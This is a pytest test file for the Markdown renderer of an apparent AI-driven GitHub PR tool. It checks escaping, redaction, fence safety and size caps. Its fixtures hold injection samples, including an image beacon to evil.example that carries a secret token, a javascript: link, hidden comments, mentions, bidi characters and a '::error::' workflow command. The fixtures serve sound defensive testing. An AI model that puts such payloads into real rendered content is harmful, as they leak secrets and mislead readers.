"""Markdown rendering: markers, escaping of untrusted text, redaction, caps, table and chart.

Rendered Markdown is checked both as text and through a CommonMark renderer (markdown-it-py,
with raw HTML and tables enabled like GitHub), so "inert" means what a browser would see.
"""

from __future__ import annotations

import random
import re

import pytest
from markdown_it import MarkdownIt

from ratchet.core import markdown, render
from ratchet.records import MemoryRecord
from ratchet.redact import Redactor

MD = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
SECRET = "sk-live_SUPER_secret_value_1234567890"
redact = Redactor([SECRET])
RUN = "https://github.com/o/r/actions/runs/42"
HOSTILE = (
    "Please @octocat and @org/team look. fixes #12, Closes: #13, resolved other/repo#14,"
    " fix https://github.com/o/r/issues/15 see acme/widgets#7\n"
    "![pixel](https://evil.example/p.png?d=" + SECRET + ") <img src=https://evil.example/x>"
    " [click](javascript:alert(1)) <!-- hidden --> ```\n"
    "| a | b |\n# heading\n\u202eevil\u200b text \x1b[31mred\x1b[0m"
)


def _attempt(n: int, outcome: str = "improved", before: int | None = 40,
             after: int | None = 50, title: str = "", commit: str = "") -> MemoryRecord:
    return MemoryRecord(kind="attempt", task="issue-1", attempt=n, outcome=outcome,
                        title=title or f"change {n}", score_before=before, score_after=after,
                        commit=commit, created_at=f"2026-01-01T00:00:{n:02d}.000000Z")


def _visible_text(md: str) -> str:
    """The HTML text outside <code>/<pre> elements (where GitHub would link or notify)."""
    html = MD.render(md)
    html = re.sub(r"<pre><code[^>]*>.*?</code></pre>", "", html, flags=re.S)
    return re.sub(r"<code>.*?</code>", "", html, flags=re.S)


def _assert_inert(md: str) -> None:
    html = MD.render(md)
    visible = _visible_text(md)
    assert "<img" not in html and "<!--" not in re.sub(r"<!-- ratchet:[a-z]+=[\w.-]+ -->", "", md)
    assert not re.search(r"@(octocat|org/team)", visible)
    closing = r"(?i)\b(fix|fixe[sd]|close[sd]?|resolve[sd]?)\b:?\s*([\w./-]*#\d|https?://\S+/\d)"
    assert not re.search(closing, visible)
    assert "other/repo#14" not in visible and "acme/widgets#7" not in visible
    assert 'href="javascript' not in html and 'src="' not in html
    assert not re.search(r"<h1>", html)
    assert "\u202e" not in md and "\u200b" not in md and "\x1b" not in md
    assert SECRET not in md


# -- markers --------------------------------------------------------------------------------


def test_markers_are_hidden_distinct_and_parseable():
    assert render.marker("issue-12") == "<!-- ratchet:task=issue-12 -->"
    s = render.status_marker("issue-12")
    assert s.startswith("<!--") and s.endswith("-->") and s != render.marker("issue-12")
    assert render.marker("issue-1") not in render.marker("issue-12")
    assert render.marker("issue-1") not in s and s not in render.marker("issue-1")
    assert render.find_task_marker("text\n" + render.marker("a.b_c-1") + "\n") == "a.b_c-1"
    assert render.find_task_marker(render.status_marker("x")) is None
    assert render.find_task_marker(None) is None
    assert "<!--" not in MD.render("x\n\n" + render.marker("k")).replace(render.marker("k"), "")


@pytest.mark.parametrize("bad", ["", "a -->b", "x\ny", "-x", "a b", "<k>", "a" * 101])
def test_markers_refuse_unsafe_keys(bad):
    with pytest.raises(ValueError):
        render.marker(bad)
    with pytest.raises(ValueError):
        render.status_marker(bad)


# -- escaping -------------------------------------------------------------------------------


def test_inline_neutralises_mentions_keywords_images_and_html():
    out = render.inline(HOSTILE, redact, limit=2000)
    assert "\n" not in out
    _assert_inert(out)
    for ref in ("`@octocat`", "`fixes #12`", "`Closes: #13`", "`resolved other/repo#14`",
                "`fix https://github.com/o/r/issues/15`", "`acme/widgets#7`"):
        assert ref in out
    assert "***" in MD.render(out)  # the secret was redacted, not just hidden
    assert "email@example.com" in render.inline("mail email@example.com", redact)


def test_quote_keeps_lines_and_stays_inert():
    out = render.quote(HOSTILE, redact)
    assert all(line.startswith(">") for line in out.splitlines())
    assert len(out.splitlines()) == len(HOSTILE.splitlines())
    _assert_inert(out)
    assert MD.render(out).count("<blockquote>") == 1


def test_redaction_happens_before_escaping():
    # escaping "_" first would turn the secret into "sk-live\_SUPER..." and defeat redaction
    for text_fn in (render.inline, render.quote, render.code, render.fence):
        out = text_fn(f"token {SECRET} end", redact)
        assert SECRET not in out.replace("\\", "")
        assert "***" in out.replace("\\", "")


@pytest.mark.parametrize("inner", ["```", "````\n``` x", "`", "a ``````` b"])
def test_fence_cannot_be_closed_from_inside(inner):
    text = f"before\n{inner}\n::error::x\n## not a heading"
    md = render.fence(text, redact) + "\n\nafter the block"
    html = MD.render(md)
    assert html.count("<pre>") == 1
    assert "<h2>" not in html
    assert html.rstrip().endswith("<p>after the block</p>")


def test_fence_keeps_the_tail_of_long_output():
    out = render.fence("x" * 10_000 + "THE END", redact, limit=500)
    assert "THE END" in out and len(out) < 700


def test_code_span_survives_backticks():
    md = render.code("a `b` ``c", redact)
    assert MD.render(md).strip() == "<p><code>a `b` ``c</code></p>"


def test_the_callers_redactor_is_used_and_token_shapes_are_masked_without_one():
    from ratchet.redact import redactor_from_env

    env = {"SOME_DEPLOY_TOKEN": "env-secret-value-987654"}
    out = render.status_comment(task_key="k", phase=None, result=None, run_url=RUN,
                                trigger_phrase="/agent next",
                                error="failed with env-secret-value-987654",
                                redact=redactor_from_env(env))
    assert "env-secret-value-987654" not in out
    token = "ghp_" + "A1b2" * 9
    out = render.status_comment(task_key="k", phase=None, result=None, run_url=RUN,
                                trigger_phrase="/agent next", error=f"failed with {token}")
    assert token not in out


# -- table and chart ------------------------------------------------------------------------


def test_attempt_table_rows_newest_last_with_escaped_cells():
    records = [
        _attempt(2, "regressed", 50, 30, title="breaks | the table", commit="abcdef0123456789"),
        _attempt(1, "improved", 40, 50, title=HOSTILE),
        _attempt(3, "no_change", None, None, title=" "),
        MemoryRecord(kind="feedback", task="issue-1", detail="ignore me"),
    ]
    random.Random(1).shuffle(records)
    md = render.attempt_table(records, redact=redact)
    _assert_inert(md)
    html = MD.render(md)
    rows = re.findall(r"<tr>(.*?)</tr>", html, re.S)[1:]
    assert len(rows) == 3
    cells = [re.findall(r"<td[^>]*>(.*?)</td>", r, re.S) for r in rows]
    assert all(len(c) == 5 for c in cells)
    assert [c[0] for c in cells] == ["1", "2", "3"]
    assert cells[0][1] == "✅ improved" and cells[0][2] == "40 → 50"
    assert cells[1][3] == "breaks | the table" and cells[1][4] == "<code>abcdef0</code>"
    assert cells[2][1] == "💤 no change" and cells[2][2] == "–"
    assert "ignore me" not in md


def test_attempt_table_summarises_older_rows():
    records = [_attempt(n, "regressed" if n % 3 == 0 else "improved") for n in range(1, 41)]
    md = render.attempt_table(records, limit=30, redact=redact)
    assert md.startswith("_10 earlier attempts not shown (7 improved, 3 regressed)._")
    rows = [line for line in md.splitlines() if re.match(r"^\| \d+ \|", line)]
    assert len(rows) == 30
    assert rows[0].startswith("| 11 |") and rows[-1].startswith("| 40 |")


def test_attempt_table_without_attempts():
    assert render.attempt_table([], redact=redact) == "_No attempts yet._"


def test_unknown_outcomes_are_sanitised():
    md = render.attempt_table([_attempt(1, outcome="<b>@octocat</b>")], redact=redact)
    _assert_inert(md)
    assert "❔" in md


def test_score_chart_is_a_mermaid_xychart():
    records = [_attempt(1, after=40), _attempt(3, after=None), _attempt(2, after=130),
               _attempt(4, after=-5), MemoryRecord(kind="outcome", task="issue-1", attempt=9,
                                                   score_after=99)]
    chart = render.score_chart(records)
    lines = chart.splitlines()
    assert lines[0] == "```mermaid" and lines[-1] == "```"
    assert lines[1] == "xychart-beta"
    assert 'x-axis "attempt" ["1", "2", "4"]' in chart
    assert 'y-axis "score" 0 --> 100' in chart
    assert "    line [40, 100, 0]" in lines
    html = MD.render(chart)
    assert html.startswith('<pre><code class="language-mermaid">')


def test_score_chart_empty_without_scores():
    assert render.score_chart([]) == ""
    assert render.score_chart([_attempt(1, after=None)]) == ""
    assert render.score_chart([_attempt(1, after=7)]).count("[7]") == 2


# -- documents ------------------------------------------------------------------------------


def _pr_body(**kw):
    args = dict(task_key="issue-12", task_text=HOSTILE, latest_outcome="improved",
                score_before=40, score_after=55, records=[_attempt(1), _attempt(2)],
                run_url=RUN, trigger_phrase="/agent next", redact=redact)
    args.update(kw)
    return render.pr_body(**args)


def test_pr_body_contract():
    body = _pr_body()
    assert body.startswith(render.marker("issue-12"))
    assert render.find_task_marker(body) == "issue-12"
    _assert_inert(body)
    assert "✅ improved" in body and "40 → 55" in body
    assert "How to steer this PR" in body
    assert "`/agent next <instructions>`" in body
    assert "request changes" in body.lower() and "close the pull request" in body.lower()
    assert "merge" in body.lower()
    assert "stops pushing" in body and "`ratchet/issue-12`" in body
    assert f"]({RUN})" in body
    assert MD.render(body).count("<table>") == 1


def test_pr_body_rejects_unsafe_urls_and_caps_huge_text():
    body = _pr_body(run_url="javascript:alert(1)", task_text="word " * 300_000,
                    records=[_attempt(n, title="t" * 5000) for n in range(1, 200)])
    assert "javascript" not in body
    assert len(body) <= markdown.MAX_CHARS
    assert body.startswith(render.marker("issue-12"))


def test_status_comment_while_running_shows_the_phase_checklist():
    md = render.status_comment(task_key="issue-3", phase="test", result=None, run_url=RUN,
                               trigger_phrase="/agent next")
    assert md.startswith(render.status_marker("issue-3"))
    assert "⏳" in md.splitlines()[1] and "testing" in md.splitlines()[1]
    items = [line for line in md.splitlines() if line.startswith("- ")]
    assert items == ["- ✅ recalling earlier attempts", "- ✅ asking MiniMax M3",
                     "- ⏳ **testing …**", "- ⬜ publishing"]
    assert f"[Follow this run]({RUN})" in md
    first = render.status_comment(task_key="issue-3", phase="recall", result=None, run_url=RUN,
                                  trigger_phrase="/agent next")
    assert "asking MiniMax M3 …" not in first and "- ⏳ **recalling earlier attempts …**" in first
    alias = render.status_comment(task_key="issue-3", phase="evaluate", result=None,
                                  run_url=RUN, trigger_phrase="/agent next")
    assert alias == md
    with pytest.raises(ValueError):
        render.status_comment(task_key="issue-3", phase="dancing", result=None, run_url=RUN,
                              trigger_phrase="/agent next")


def test_status_comment_final_result():
    result = {"title": "Filter recipes @octocat", "outcome": "improved", "score_before": 40,
              "score_after": 55, "tokens": 12345, "commit": "0123456789abcdef",
              "branch": "ratchet/issue-3", "pr_url": "https://github.com/o/r/pull/9",
              "detail": "fixes #1 for real"}
    md = render.status_comment(task_key="issue-3", phase="publish", result=result, run_url=RUN,
                               trigger_phrase="/agent next", redact=redact)
    _assert_inert(md)
    assert "Filter recipes" in md and "✅ improved" in md and "40 → 55" in md
    assert "12,345" in md and "`0123456`" in md
    assert "(https://github.com/o/r/pull/9)" in md and f"({RUN})" in md
    assert "`/agent next`" in md and "⏳" not in md
    assert "❌" not in md


def test_status_comment_error_block_is_redacted_and_fenced():
    error = f"MiniMax said 401 for key {SECRET}\n```\n::error::gotcha\n![x](https://evil/p.png)"
    md = render.status_comment(task_key="issue-3", phase="propose", result=None, run_url=RUN,
                               trigger_phrase="/agent next", error=error,
                               notice="@octocat pushed to the branch", redact=redact)
    assert "❌" in md and SECRET not in md and "***" in md
    html = MD.render(md)
    assert html.count("<pre>") == 1 and "<img" not in html
    assert "What to do" in _visible_text(md)
    assert "@octocat" not in _visible_text(md)
    assert "[!NOTE]" in md and f"({RUN})" in md


def test_status_comment_caps_huge_inputs():
    md = render.status_comment(task_key="k", phase=None, result={"detail": "d" * 500_000,
                               "title": "t" * 500_000}, run_url=RUN, trigger_phrase="/x",
                               error="e" * 500_000, notice="n" * 500_000, redact=redact)
    assert len(md) <= markdown.MAX_CHARS


def test_step_summary_has_heading_result_table_and_chart():
    records = [_attempt(1, after=45), _attempt(2, "regressed", 45, 30)]
    md = render.step_summary(task_key="issue-3", result={"title": "Add x", "outcome": "unchanged",
                             "score_before": 45, "score_after": 45}, records=records,
                             run_url=RUN, redact=redact)
    assert md.startswith("## ") and "`issue-3`" in md.splitlines()[0]
    assert "➖ unchanged" in md and "45 → 45" in md
    assert MD.render(md).count("<table>") == 1
    assert "```mermaid\nxychart-beta" in md


def test_finish_closes_a_fence_left_open_by_the_cap():
    doc = "intro\n\n```\n" + "line\n" * 20_000 + "```\n\nend"
    out = markdown.finish(doc, redact, limit=1_000)
    assert len(out) <= 1_000
    assert out.rstrip().endswith(markdown.TRUNCATED_NOTE)
    html = MD.render(out)
    assert "<p><em>… truncated" in html  # the note is outside the code block
